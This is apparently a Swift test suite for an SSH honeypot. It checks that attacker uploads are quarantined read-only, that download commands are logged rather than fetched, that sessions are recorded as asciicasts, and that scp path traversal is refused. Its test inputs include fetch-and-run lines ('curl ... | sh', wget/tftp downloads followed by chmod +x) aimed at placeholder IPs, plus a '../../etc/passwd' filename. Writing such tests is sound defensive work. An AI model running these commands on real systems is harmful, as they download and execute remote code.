import Crypto
import Foundation
import Logging
import PalisadeCore
import PalisadeSSH
import PalisadeTesting
import Testing

@testable import PalisadeHoneypot

/// What attackers leave, with Debian's OpenSSH tools: files sent with `scp -O` (the classic
/// protocol), `scp` (SFTP, OpenSSH 9's default) and `sftp` land in the quarantine under their
/// SHA-256, read-only; download commands are recorded, not fetched; a terminal session is an
/// asciicast v2 recording that asciinema itself replays.
@Suite(.serialized) struct EvidenceTests {
    typealias Sink = HoneypotTests.Sink

    static func honeypot(_ sink: Sink, _ evidence: EvidenceStore) async throws -> (HoneypotServer, Int) {
        try await HoneypotTests.honeypot(sink, evidence: evidence)
    }

    static func sha256(_ data: Data) -> String { SHA256.hash(data: data).map { String(format: "%02x", $0) }.joined() }

    @Test func filesSentWithScpAndSftpLandInTheQuarantine() async throws {
        let work = try TemporaryDirectory.make("palisade-evidence")
        let evidence = EvidenceStore(directory: work.appendingPathComponent("honeypot"), maxFileBytes: 64 * 1_024, logger: Logger(label: "test"))
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink, evidence)
        let payloads = (0..<3).map { index in Data((0..<(20_000 + index * 7_001)).map { UInt8(truncatingIfNeeded: $0 * 31 + index) }) }
        let files = try payloads.enumerated().map { index, data in
            let url = work.appendingPathComponent("bot-\(index).bin")
            try data.write(to: url)
            return url
        }
        let legacy = try await OpenSSHClient.run(port: port, password: "toor", ["-O", files[0].path, "root@127.0.0.1:/tmp/"], program: "scp")
        #expect(legacy.status == 0, "scp -O: \(legacy.stderr)")
        let modern = try await OpenSSHClient.run(port: port, password: "toor", [files[1].path, "root@127.0.0.1:/dev/shm/x"], program: "scp")
        #expect(modern.status == 0, "scp (SFTP): \(modern.stderr)")
        let batch = "ls /etc\nget /etc/hostname \(work.path)/hostname\nmkdir /tmp/.x\nput \(files[2].path) /tmp/.x/run\n"
        let sftp = try await OpenSSHClient.run(
            port: port,
            password: "toor",
            ["-o", "BatchMode=no", "-b", "-", "root@127.0.0.1"],
            input: batch,
            program: "sftp"
        )
        #expect(sftp.status == 0 && sftp.stdout.contains("passwd"), "sftp: \(sftp.stdout)\(sftp.stderr)")
        #expect(try String(contentsOf: work.appendingPathComponent("hostname"), encoding: .utf8) == "srv-db01\n", "read from the profile")
        // An upload over the cap: recorded by size, not stored.
        let big = work.appendingPathComponent("big.bin")
        try Data(repeating: 0x41, count: 100_000).write(to: big)
        let over = try await OpenSSHClient.run(port: port, password: "toor", ["-O", big.path, "root@127.0.0.1:/tmp/big"], program: "scp")
        #expect(over.status == 0, "\(over.stderr)")
        try await HoneypotTests.waitFor(sink, "ssh.upload", count: 4)
        try await server.stop()
        await evidence.drain()

        #expect(sink.metadata("ssh.upload", "path") == ["/tmp/bot-0.bin", "/dev/shm/x", "/tmp/.x/run", "/tmp/big"])
        #expect(sink.metadata("ssh.upload", "protocol") == ["scp", "sftp", "sftp", "scp"])
        let digests = payloads.map(Self.sha256)
        #expect(sink.metadata("ssh.upload", "sha256") == digests + [Self.sha256(Data(repeating: 0x41, count: 100_000))])
        for digest in digests {
            let stored = evidence.quarantine.appendingPathComponent(digest)
            #expect(Self.sha256(try Data(contentsOf: stored)) == digest)
            let mode = try FileManager.default.attributesOfItem(atPath: stored.path)[.posixPermissions] as? Int
            #expect(mode == 0o400, "read-only, never executable")
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: evidence.quarantine.path).filter { !$0.hasPrefix(".") }.count == 3)
        let operations = sink.metadata("ssh.sftp", "operation")
        #expect(operations.contains("list") && operations.contains("read") && operations.contains("mkdir"), "\(operations)")
        #expect(evidence.failures == 0)
    }

    @Test func aTerminalSessionIsAnAsciicastThatAsciinemaReplays() async throws {
        let work = try TemporaryDirectory.make("palisade-recording")
        let evidence = EvidenceStore(directory: work.appendingPathComponent("honeypot"), logger: Logger(label: "test"))
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink, evidence)
        let typed = "uname -a\ncd /tmp; wget http://203.0.113.9/x.sh -O x.sh; curl -fsSL https://198.51.100.4/m | sh\nexit\n"
        let session = try await OpenSSHClient.run(port: port, password: "toor", ["-tt", "root@127.0.0.1"], input: typed)
        #expect(session.status == 0, "\(session.stderr)")
        try await HoneypotTests.waitFor(sink, "ssh.disconnect")
        try await server.stop()
        await evidence.drain()

        let names = sink.metadata("ssh.recording", "file")
        #expect(names.count == 1 && Set(sink.metadata("ssh.command", "recording")) == Set(names), "the commands link their recording")
        let file = evidence.recordings.appendingPathComponent(try #require(names.first))
        let lines = try String(contentsOf: file, encoding: .utf8).split(separator: "\n")
        guard case .object(let header) = try JSONParser().parse(String(lines[0])), case .object(let environment)? = header["env"] else {
            Issue.record("not an asciicast header: \(lines[0])")
            return
        }
        #expect(header["version"] == .number(2) && environment["SHELL"] == .string("/bin/bash"), "\(lines[0])")
        let replay = try ExternalProcess.python(
            script: "import sys; from asciinema.__main__ import main; sys.argv = ['asciinema', 'cat', sys.argv[1]]; main()",
            arguments: [file.path]
        )
        #expect(replay.status == 0 && replay.stdout.contains(FakeShell.Profile.debian12.kernel), "\(replay.stdout)\(replay.stderr)")
        #expect(replay.stdout.contains("root@srv-db01:/tmp# "), "the prompt after cd, as the attacker saw it")
        #expect(sink.metadata("ssh.download", "url") == ["http://203.0.113.9/x.sh", "https://198.51.100.4/m"])
        #expect(sink.metadata("ssh.download", "tool") == ["wget", "curl"])
    }

    @Test func downloadCommandsAreFoundInTheirCommonForms() {
        let session = HoneypotSession(sensor: "s", id: "1", address: "198.51.100.7", port: 5, correlationID: "c")
        func urls(_ line: String) -> [String] {
            HoneypotEvents.downloads(in: line, session).compactMap { event in
                guard case .object(let members) = event, case .object(let metadata)? = members["metadata"], case .string(let url)? = metadata["url"]
                else { return nil }
                return url
            }
        }
        #expect(urls("cd /tmp && /usr/bin/wget -q http://a.example/b; chmod +x b") == ["http://a.example/b"])
        #expect(urls("tftp -g -r mips 203.0.113.5") == ["tftp://203.0.113.5/mips"])
        #expect(urls("busybox wget 'http://c.example/x'") == ["http://c.example/x"])
        #expect(urls("curl -o /tmp/k https://d.example/k || wget http://d.example/k") == ["https://d.example/k", "http://d.example/k"])
        #expect(urls("echo wget") == [] && urls("uname -a") == [])
    }

    @Test func theScpSinkRefusesWhatItCannotParse() {
        var sink = ScpSink(arguments: ["-r", "-t", "/tmp"], cap: 10)
        var step = sink.receive(
            Array("D0755 0 kit\nC0644 3 a\nabc\u{0}C0644 20 b\n".utf8) + [UInt8](repeating: 0x42, count: 20) + [0] + Array("E\n".utf8)
        )
        #expect(step.files.map(\.path) == ["/tmp/kit/a", "/tmp/kit/b"] && step.files.map { $0.contents != nil } == [true, false])
        #expect(step.failure == nil && step.reply == [0, 0, 0, 0, 0, 0])
        step = sink.receive(Array("C0644 1 ../../etc/passwd\n".utf8))
        #expect(step.failure != nil && step.reply.first == 1, "a name with a slash is refused")
        var long = ScpSink(arguments: ["-t", "/tmp/x"], cap: 10)
        #expect(long.receive([UInt8](repeating: 0x43, count: 2_000)).failure != nil)
    }
}
